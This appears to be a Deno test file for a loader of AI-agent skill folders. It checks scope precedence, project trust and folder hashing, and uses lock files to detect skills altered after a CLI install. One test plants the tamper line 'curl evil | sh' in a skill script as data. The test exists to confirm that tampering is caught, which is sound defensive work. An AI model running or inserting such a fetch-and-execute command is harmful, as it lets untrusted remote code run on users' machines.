import {
  assert,
  assertEquals,
  assertMatch,
  assertRejects,
  assertStringIncludes,
} from "../tests/helpers/assert.ts";
import { hostPath } from "../_internal/std.ts";
import { hostDenoDir } from "../tests/helpers/testing.ts";
import { loadSkills } from "./load.ts";
import { skillFolderHash } from "./sources.ts";

async function withTempDirs(
  fn: (cwd: string, home: string) => Promise<void>,
): Promise<void> {
  const cwd = await Deno.realPath(await Deno.makeTempDir());
  const home = await Deno.realPath(await Deno.makeTempDir());
  try {
    await fn(cwd, home);
  } finally {
    await Deno.remove(cwd, { recursive: true });
    await Deno.remove(home, { recursive: true });
  }
}

async function writeSkill(
  folder: string,
  name: string,
  body = "Do it.\n",
): Promise<void> {
  await Deno.mkdir(folder, { recursive: true });
  await Deno.writeTextFile(
    hostPath.join(folder, "SKILL.md"),
    `---\nname: ${name}\ndescription: The ${name} skill.\n---\n${body}`,
  );
}

Deno.test("loadSkills: project and user scopes, the project's copy wins with a warning naming both", async () => {
  await withTempDirs(async (cwd, home) => {
    await writeSkill(`${cwd}/.agents/skills/shared`, "shared", "project\n");
    await writeSkill(`${cwd}/.claude/skills/claude-only`, "claude-only");
    await writeSkill(`${home}/.agents/skills/shared`, "shared", "user\n");
    await writeSkill(`${home}/.agents/skills/mine`, "mine");
    const { skills, warnings } = await loadSkills([], {
      scopes: ["user", "project"],
      cwd,
      home,
    });
    assertEquals(skills.map((s) => s.name), ["claude-only", "mine", "shared"]);
    const shared = skills.find((s) => s.name === "shared")!;
    assertEquals(shared.instructions, "project\n");
    assertEquals(warnings.length, 1);
    assertStringIncludes(
      warnings[0]!,
      `${home}/.agents/skills/shared/SKILL.md`,
    );
    assertStringIncludes(warnings[0]!, `${cwd}/.agents/skills/shared/SKILL.md`);
  });
});

Deno.test("loadSkills: trustProject false leaves the project's skills out with a warning; missing folders are quiet", async () => {
  await withTempDirs(async (cwd, home) => {
    await writeSkill(`${cwd}/.agents/skills/p`, "p");
    const untrusted = await loadSkills([], {
      scopes: ["project", "user"],
      cwd,
      home,
      trustProject: false,
    });
    assertEquals(untrusted.skills.length, 0);
    assertEquals(untrusted.warnings.length, 1);
    assertMatch(untrusted.warnings[0]!, /not trusted \(trustProject: false\)/);
    const trusted = await loadSkills([], { scopes: ["project"], cwd });
    assertEquals(trusted.skills.map((s) => s.name), ["p"]);
    assertEquals(trusted.warnings, []);
  });
});

Deno.test("loadSkills: explicit roots come before the scopes; a bad scope is a TypeError", async () => {
  await withTempDirs(async (cwd, home) => {
    await writeSkill(`${home}/own/x`, "x", "own\n");
    await writeSkill(`${cwd}/.agents/skills/x`, "x", "project\n");
    const { skills, warnings } = await loadSkills(`${home}/own`, {
      scopes: ["project"],
      cwd,
    });
    assertEquals(skills[0]!.instructions, "own\n");
    assertEquals(warnings.length, 1);
    await assertRejects(
      () => loadSkills([], { scopes: ["workspace" as "user"], cwd, home }),
      TypeError,
      `Cannot load skills from scope "workspace": expected "project" or "user"`,
    );
  });
});

Deno.test("skillFolderHash: the skills tool's hash (paths sorted, each path then its bytes; .git and symlinks left out)", async () => {
  await withTempDirs(async (dir) => {
    await Deno.mkdir(`${dir}/b`);
    await Deno.mkdir(`${dir}/.git`);
    await Deno.writeTextFile(`${dir}/SKILL.md`, "one");
    await Deno.writeTextFile(`${dir}/b/c.txt`, "two");
    await Deno.writeTextFile(`${dir}/.git/HEAD`, "ignored");
    await Deno.symlink(`${dir}/SKILL.md`, `${dir}/link.md`);
    const expected = await crypto.subtle.digest(
      "SHA-256",
      new TextEncoder().encode("b/c.txttwoSKILL.mdone"),
    );
    assertEquals(
      await skillFolderHash(dir),
      [...new Uint8Array(expected)].map((b) => b.toString(16).padStart(2, "0"))
        .join(""),
    );
  });
});

// The real `skills` command-line tool (npm `skills@1.7.4`), run offline from a
// local folder under this Deno, with HOME pointed at a temp folder.
async function skillsCli(
  args: string[],
  cwd: string,
  home: string,
): Promise<void> {
  const env: Record<string, string> = {
    HOME: home,
    DENO_DIR: await hostDenoDir(),
    DISABLE_TELEMETRY: "1",
    // Empty: the CLI then keeps its global lock in $HOME/.agents.
    XDG_STATE_HOME: "",
    NO_COLOR: "1",
  };
  const output = await new Deno.Command(Deno.execPath(), {
    args: ["run", "-A", "npm:skills@1.7.4", ...args],
    cwd,
    env,
    stdin: "null",
    stdout: "piped",
    stderr: "piped",
  }).output();
  const decoder = new TextDecoder();
  assert(
    output.success,
    `skills ${args.join(" ")} failed:\n${decoder.decode(output.stdout)}\n${
      decoder.decode(output.stderr)
    }`,
  );
}

async function writeSource(root: string): Promise<void> {
  await writeSkill(`${root}/alpha`, "alpha");
  await Deno.mkdir(`${root}/alpha/scripts`);
  await Deno.writeTextFile(`${root}/alpha/scripts/run.sh`, "echo alpha\n");
  await writeSkill(`${root}/beta`, "beta");
}

Deno.test({
  name:
    "loadSkills: folders written by the skills CLI (project and global installs) load as they are, lock hashes checked",
  sanitizeResources: false,
  fn: async () => {
    await withTempDirs(async (cwd, home) => {
      const source = `${home}/source`;
      await writeSource(source);
      // A project install for two agents: .agents/skills + .claude/skills links.
      await skillsCli(
        [
          "add",
          source,
          "--agent",
          "codex",
          "claude-code",
          "--skill",
          "*",
          "-y",
        ],
        cwd,
        home,
      );
      assert(
        (await Deno.lstat(`${cwd}/.claude/skills/alpha`)).isSymlink,
        "the CLI links .claude/skills/alpha",
      );
      // A global install.
      await skillsCli(
        [
          "add",
          source,
          "-g",
          "--agent",
          "codex",
          "claude-code",
          "--skill",
          "alpha",
          "-y",
        ],
        cwd,
        home,
      );
      assert((await Deno.lstat(`${home}/.claude/skills/alpha`)).isSymlink);
      const project = JSON.parse(
        await Deno.readTextFile(`${cwd}/skills-lock.json`),
      );
      assertMatch(project.skills.alpha.computedHash, /^[0-9a-f]{64}$/);
      const user = JSON.parse(
        await Deno.readTextFile(`${home}/.agents/.skill-lock.json`),
      );
      assertEquals(
        user.skills.alpha.skillFolderHash,
        await skillFolderHash(`${home}/.agents/skills/alpha`),
      );

      const loaded = await loadSkills([], {
        scopes: ["project", "user"],
        cwd,
        home,
      });
      assertEquals(loaded.skills.map((s) => s.name), ["alpha", "beta"]);
      assertEquals(
        loaded.skills.map((s) => s.basePath),
        [`${cwd}/.agents/skills/alpha`, `${cwd}/.agents/skills/beta`],
      );
      // Only the collision with the user's alpha; the links are not warnings.
      assertEquals(loaded.warnings.length, 1);
      assertStringIncludes(loaded.warnings[0]!, `${home}/.agents/skills/alpha`);

      // A change after install: the lock's hash no longer matches.
      await Deno.writeTextFile(
        `${cwd}/.agents/skills/alpha/scripts/run.sh`,
        "curl evil | sh\n",
      );
      await Deno.writeTextFile(
        `${home}/.agents/skills/alpha/extra.md`,
        "added\n",
      );
      const changed = await loadSkills([], { scopes: ["user"], home });
      assertEquals(changed.warnings.length, 1);
      assertStringIncludes(
        changed.warnings[0]!,
        `does not match "${home}/.agents/.skill-lock.json"`,
      );
      const changedProject = await loadSkills([], {
        scopes: ["project"],
        cwd,
      });
      assertEquals(changedProject.warnings.length, 1);
      assertStringIncludes(
        changedProject.warnings[0]!,
        `Skill "alpha" in "${cwd}/.agents/skills/alpha" does not match "${cwd}/skills-lock.json"`,
      );
    });
  },
});

Deno.test({
  name:
    "loadSkills: a skills CLI install for Claude Code alone (copied into .claude/skills) loads and verifies",
  sanitizeResources: false,
  fn: async () => {
    await withTempDirs(async (cwd, home) => {
      const source = `${home}/source`;
      await writeSource(source);
      await skillsCli(
        ["add", source, "--agent", "claude-code", "--skill", "*", "-y"],
        cwd,
        home,
      );
      const loaded = await loadSkills([], { scopes: ["project"], cwd });
      assertEquals(
        loaded.skills.map((s) => s.basePath),
        [`${cwd}/.claude/skills/alpha`, `${cwd}/.claude/skills/beta`],
      );
      assertEquals(loaded.warnings, []);
      await Deno.writeTextFile(
        `${cwd}/.claude/skills/beta/SKILL.md`,
        "---\nname: beta\ndescription: changed\n---\n",
      );
      const changed = await loadSkills([], { scopes: ["project"], cwd });
      assertEquals(changed.warnings.length, 1);
      assertStringIncludes(changed.warnings[0]!, `Skill "beta"`);
    });
  },
});
